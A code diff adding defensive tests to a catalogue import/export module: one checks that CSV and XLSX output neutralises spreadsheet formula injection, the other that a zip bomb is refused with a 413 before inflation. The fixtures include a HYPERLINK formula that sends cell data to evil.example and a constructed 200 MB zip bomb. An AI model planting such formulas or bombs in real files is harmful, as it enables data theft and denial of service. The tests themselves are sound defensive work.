@@ -1,11 +1,13 @@
 import ExcelJS from "exceljs";
-import { describe, expect, it } from "vitest";
+import JSZip from "jszip";
+import { describe, expect, it, vi } from "vitest";
 import { rejection } from "../../../test/support/expect-error.ts";
 import { localizeField } from "../../platform/http/app-error.ts";
 import { translator } from "../../platform/i18n/i18n.ts";
 import { columnLetter, MAX_FILE_BYTES, parseCatalogue, parseCsv, writeCsv, writeXlsx } from "./catalogue-file.ts";
 import { aDocument, applicantFields, aProcedureInput } from "../../../test/support/procedure-factories.ts";
 import { ProcedureDefinition } from "./procedures.contract.ts";
+import { buildZip, deflatedZeros } from "../../../test/support/zip-factories.ts";
 
 // A small catalogue that uses every column of every sheet; the first code ends in zero, as 2.000810 does.
 const catalogue = [
@@ -54,6 +56,49 @@ describe("catalogue file", () => {
   it("round-trips a catalogue through XLSX and CSV unchanged", async () => {
     expect(await parseCatalogue(await writeXlsx(catalogue), "xlsx")).toEqual(catalogue);
     expect(await parseCatalogue(writeCsv(catalogue), "csv")).toEqual(catalogue);
+  });
+
+  it("writes text that a spreadsheet would run as a formula behind an apostrophe, numbers as numbers, and reads it back unchanged", async () => {
+    const risky = ProcedureDefinition.parse(
+      aProcedureInput({
+        code: "8.000040",
+        name: '=HYPERLINK("http://evil.example/?q="&A1,"Xem mẫu")',
+        summary: "+84 912 345 678 là số đường dây nóng",
+        legalBasis: ["- Luật Hộ tịch 2014", "@Nghị định 123/2015/NĐ-CP", "'=đã có dấu nháy"],
+        fees: [{ key: "issue", label: "-50% cho hộ nghèo", amount: 8000, exemptions: "=1+1" }],
+        documents: [aDocument("paper", "Giấy tờ", { note: "@SUM(A1:A9)" })],
+      }),
+    );
+    const defs = [...catalogue, risky];
+    const formula = /^[=+\-@\t\r]/;
+
+    const csv = parseCsv(csvText(writeCsv(defs)));
+    const csvCells = csv.flatMap((r) => r.cells.slice(1));
+    expect(csvCells.filter((c) => formula.test(c))).toEqual([]);
+    expect(csvCells).toContain(`'${risky.name}`);
+    expect(csvCells).toContain("'- Luật Hộ tịch 2014\n@Nghị định 123/2015/NĐ-CP\n'=đã có dấu nháy");
+
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.load(Buffer.from(await writeXlsx(defs)) as unknown as ArrayBuffer);
+    const texts: string[] = [];
+    const amounts: unknown[] = [];
+    wb.eachSheet((ws) =>
+      ws.eachRow((row) =>
+        row.eachCell((cell) => {
+          if (typeof cell.value === "string") texts.push(cell.value);
+        }),
+      ),
+    );
+    wb.getWorksheet("fees")!
+      .getColumn(4)
+      .eachCell((cell, line) => void (line > 1 && amounts.push(cell.value)));
+    expect(texts.filter((c) => formula.test(c))).toEqual([]);
+    expect(texts).toContain("'-50% cho hộ nghèo");
+    expect(amounts.length).toBeGreaterThan(0);
+    expect(amounts.every((a) => typeof a === "number")).toBe(true);
+
+    expect(await parseCatalogue(await writeXlsx(defs), "xlsx")).toEqual(defs);
+    expect(await parseCatalogue(writeCsv(defs), "csv")).toEqual(defs);
   });
 
   it("keeps codes as text in the workbook, so a trailing zero survives", async () => {
@@ -120,6 +165,33 @@ describe("catalogue file", () => {
     });
     expect((await rejection(parseCatalogue(new Uint8Array([0xff, 0xfe, 0x00]), "csv"))).fields[0]?.message).toBe("procedures.import.unreadable");
     expect((await rejection(parseCatalogue(new Uint8Array(MAX_FILE_BYTES + 1), "csv"))).status).toBe(413);
+  });
+
+  it("refuses a zip bomb with 413 naming the part, in Vietnamese and English, before the workbook is inflated", async () => {
+    const zeros = await deflatedZeros(200 * 1024 * 1024);
+    const bomb = buildZip([
+      { name: "[Content_Types].xml", data: new TextEncoder().encode("<Types/>") },
+      { name: "xl/worksheets/sheet1.xml", deflated: zeros },
+    ]);
+    expect(bomb.byteLength).toBeLessThan(MAX_FILE_BYTES);
+    const inflate = vi.spyOn(JSZip, "loadAsync");
+    try {
+      const err = await rejection(parseCatalogue(bomb, "xlsx"));
+      expect(err.status).toBe(413);
+      expect(err.fields).toEqual([expect.objectContaining({ field: "file", message: "procedures.import.partTooLarge" })]);
+      expect(localizeField(err.fields[0]!, translator("vi"))).toBe(
+        "Trường “file”: phần “xl/worksheets/sheet1.xml” của tệp Excel giải nén ra 200 MB, quá mức 16 MB",
+      );
+      expect(localizeField(err.fields[0]!, translator("en"))).toBe(
+        "Field “file”: part “xl/worksheets/sheet1.xml” of the Excel file expands to 200 MB, more than 16 MB",
+      );
+      expect(inflate).not.toHaveBeenCalled();
+      // The same workbook path still reads an honest file.
+      expect(await parseCatalogue(await writeXlsx(catalogue), "xlsx")).toEqual(catalogue);
+      expect(inflate).toHaveBeenCalledTimes(1);
+    } finally {
+      inflate.mockRestore();
+    }
   });
 
   it("parses quoted CSV cells spanning lines and remembers where each record starts", () => {
